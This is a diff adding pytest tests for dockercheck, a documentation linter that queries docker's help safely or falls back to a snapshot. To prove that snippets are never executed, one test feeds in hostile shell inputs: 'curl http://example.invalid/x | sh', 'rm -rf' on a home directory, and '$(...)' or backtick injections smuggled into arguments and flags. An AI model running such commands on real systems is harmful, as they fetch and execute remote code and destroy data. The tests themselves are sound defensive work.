@@ -1,0 +1,199 @@
+"""Where docker's help comes from: the live docker (safely, cached), or the snapshot."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from dockercheck import check_document, load_grammar
+from dockercheck.grammar import Grammar
+from dockercheck.sources import BOGUS_HOST, LiveDocker, Snapshot, SourceError, classify_probe
+from dockercheck.sources import SNAPSHOT_VERSION
+
+SNAPSHOT_FILE = Path(__file__).resolve().parents[1] / "src" / "dockercheck" / "data" / f"docker-{SNAPSHOT_VERSION}.json"
+
+# A stand-in for docker: answers from the snapshot and logs argv, cwd, env and stdin.
+FAKE_DOCKER = """#!{python}
+import json, os, sys
+log = {{"argv": sys.argv[1:], "cwd": os.getcwd(), "cwd_entries": os.listdir("."),
+        "host": os.environ.get("DOCKER_HOST"), "stdin_tty": sys.stdin.isatty(),
+        "stdin": sys.stdin.read(10)}}
+with open(os.environ["FAKE_LOG"], "a") as f:
+    f.write(json.dumps(log) + "\\n")
+args = sys.argv[1:]
+if args == ["--version"]:
+    print("Docker version {version}, build fake")
+    sys.exit(0)
+data = json.load(open(os.environ["FAKE_SNAPSHOT"]))
+if "--help" in args:
+    i = args.index("--help")
+    path, rest = " ".join(args[:i]), args[i + 1:]
+    if rest:
+        key = path + " " + rest[0]
+        probe = data["probes"].get(key)
+        if probe is None:
+            print("unknown flag: " + rest[0], file=sys.stderr); sys.exit(125)
+        if probe.get("takes_value"):
+            print("flag needs an argument: " + rest[0], file=sys.stderr); sys.exit(125)
+    print(data["help"][path], end="")
+    sys.exit(0)
+sys.exit(3)
+"""
+
+
+@pytest.fixture
+def fake_docker(tmp_path, monkeypatch):
+    script = tmp_path / "bin" / "docker"
+    script.parent.mkdir()
+    script.write_text(FAKE_DOCKER.format(python=sys.executable, version=SNAPSHOT_VERSION))
+    script.chmod(0o755)
+    log = tmp_path / "docker.log"
+    monkeypatch.setenv("FAKE_LOG", str(log))
+    monkeypatch.setenv("FAKE_SNAPSHOT", str(SNAPSHOT_FILE))
+    monkeypatch.setenv("DOCKER_HOST", "tcp://198.51.100.7:2375")  # must never reach docker
+    monkeypatch.setenv("DOCKER_CONTEXT", "remote")
+
+    def calls() -> list[dict]:
+        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+
+    return script, calls, tmp_path / "cache"
+
+
+SNAPSHOT_PATHS = set(Snapshot.load().helps)
+ALLOWED_FLAG = re.compile(r"--[a-z0-9][a-z0-9-]*|-[A-Za-z0-9]")
+
+
+def assert_safe(argv: list[str]) -> None:
+    """docker <path of its own tree> --help [flag name], or docker --version."""
+    if argv == ["--version"]:
+        return
+    assert "--help" in argv, argv
+    i = argv.index("--help")
+    assert " ".join(argv[:i]) in SNAPSHOT_PATHS, argv
+    assert len(argv) - i - 1 <= 1, argv
+    if len(argv) == i + 2:
+        assert ALLOWED_FLAG.fullmatch(argv[-1]), argv
+
+
+def test_live_help_is_fetched_safely_then_cached(fake_docker):
+    script, calls, cache = fake_docker
+    text = "```sh\ndocker ps -a\ndocker container ls --format x\ndocker run --net host nginx\n```\n"
+    grammar = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]])
+    assert grammar.kind == "live" and grammar.version == SNAPSHOT_VERSION
+    report = check_document(grammar, text, "p.md")
+    assert [f.code for f in report.findings] == ["DC101"]  # --net: hidden, docker says it exists
+    grammar.source.save()
+    first = calls()
+    asked = sorted(tuple(c["argv"]) for c in first)  # fetched in parallel: any order
+    assert asked == sorted([("--version",), ("--help",), ("ps", "--help"), ("container", "--help"), ("run", "--help"),
+                            ("container", "ls", "--help"), ("container", "run", "--help", "--net")])
+    for call in first:
+        assert_safe(call["argv"])
+        assert call["host"] == BOGUS_HOST  # the user's DOCKER_HOST never reaches docker
+        assert call["cwd_entries"] == [] and call["stdin"] == "" and not call["stdin_tty"]
+    # a second process: everything from the disk cache, docker not run at all
+    again = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]])
+    check_document(again, text, "p.md")
+    assert len(calls()) == len(first)
+    assert "disk cache" in again.describe()
+    assert list(cache.glob(f"docker-{SNAPSHOT_VERSION}-*.json"))
+
+
+def test_snippets_never_run_and_docker_is_asked_only_about_its_own_tree(fake_docker, tmp_path):
+    script, calls, cache = fake_docker
+    canary = tmp_path / "canary"
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "keep").write_text("x")
+    snippets = [
+        f"docker run $(touch {canary}1) img",
+        f"docker run `touch {canary}2` img",
+        f"docker ps; rm -rf {home}",
+        f"curl http://example.invalid/x | sh; docker ps",
+        f"docker $(touch {canary}3) --help",
+        f"eval \"$(touch {canary}4)\"; docker --definitely-not-a-flag",
+        f"docker run --$(touch {canary}5) img",
+        f"docker run -$(touch {canary}6) img",
+        "docker ps --format '{{.Names}}'; docker rnu -p 80",
+        "docker container 'ls; touch /tmp/x'",
+        f"docker exec -it web sh -c 'touch {canary}7'",
+    ]
+    text = "```sh\n" + "\n".join(snippets) + "\n```\n"
+    grammar = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[])
+    report = check_document(grammar, text, "p.md")
+    assert len(report.invocations) >= 10
+    for call in calls():
+        assert_safe(call["argv"])
+    assert not list(tmp_path.glob("canary*"))
+    assert (home / "keep").exists()
+
+
+def test_missing_docker_falls_back_to_the_snapshot(tmp_path):
+    grammar = load_grammar("auto", executable=str(tmp_path / "no-docker"), cache_dir=tmp_path)
+    assert grammar.kind == "snapshot"
+    assert "live docker unusable" in grammar.describe()
+    with pytest.raises(SourceError):
+        load_grammar("live", executable=str(tmp_path / "no-docker"), cache_dir=tmp_path)
+
+
+def test_refuses_to_ask_about_words_that_are_not_command_names(fake_docker):
+    script, calls, cache = fake_docker
+    live = LiveDocker(str(script), cache_dir=cache)
+    with pytest.raises(SourceError):
+        live.help(("ps;", "rm"))
+    assert live.probe(("ps",), "--x; rm -rf /") is not None and not live.probe(("ps",), "--x; rm").exists
+    assert [c["argv"] for c in calls()] == [["--version"]]
+
+
+@pytest.mark.parametrize(
+    "code, output, exists, takes_value, deprecated",
+    [
+        (125, "unknown flag: --bogus\n\nUsage: ...", False, False, None),
+        (125, "unknown shorthand flag: 'x' in -x\n", False, False, None),
+        (125, "flag needs an argument: --net\n\nUsage:  docker run", True, True, None),
+        (0, "Flag shorthand -h has been deprecated, use --help\nUsage:  docker rm", True, False, "use --help"),
+        (0, "Usage:  docker ps [OPTIONS]\n", True, False, None),
+    ],
+)
+def test_probe_answers(code, output, exists, takes_value, deprecated):
+    probe = classify_probe(code, output)
+    assert (probe.exists, probe.takes_value, probe.deprecated) == (exists, takes_value, deprecated)
+    assert classify_probe(1, "garbage") is None
+
+
+def test_prefetch_asks_only_for_what_the_docs_use(fake_docker):
+    script, calls, cache = fake_docker
+    grammar = Grammar(LiveDocker(str(script), cache_dir=cache))
+    grammar.prefetch([["ps", "-a"], ["image", "ls"], ["image", "list"], ["--debug", "network", "create", "x"]])
+    asked = {" ".join(c["argv"][:-1]) for c in calls() if c["argv"][-1] == "--help"}
+    image_children = {f"image {r.name}" for r in grammar.command(("image",)).subcommands}
+    # 'list' is an alias: every child of image is looked at to find it
+    assert asked == {"", "ps", "image", "network", "network create"} | image_children
+
+
+def docker_version() -> str | None:
+    try:
+        out = subprocess.run(["docker", "--version"], capture_output=True, text=True, timeout=10).stdout
+    except (OSError, subprocess.SubprocessError):
+        return None
+    match = re.match(r"Docker version ([^,\s]+)", out)
+    return match.group(1) if match else None
+
+
+@pytest.mark.slow
+def test_the_snapshot_is_what_this_docker_says(tmp_path):
+    """With docker 28.2.2 here, regenerating the snapshot changes nothing."""
+    version = docker_version()
+    if version != SNAPSHOT_VERSION:
+        if os.environ.get("CI"):
+            pytest.fail(f"CI should have docker {SNAPSHOT_VERSION}, found {version}")
+        pytest.skip(f"docker {version} here, the snapshot is {SNAPSHOT_VERSION}")
+    output = tmp_path / "snapshot.json"
+    subprocess.run([sys.executable, "-m", "dockercheck.snapshot", "--output", str(output)], check=True, timeout=300)
+    assert json.loads(output.read_text()) == json.loads(SNAPSHOT_FILE.read_text())
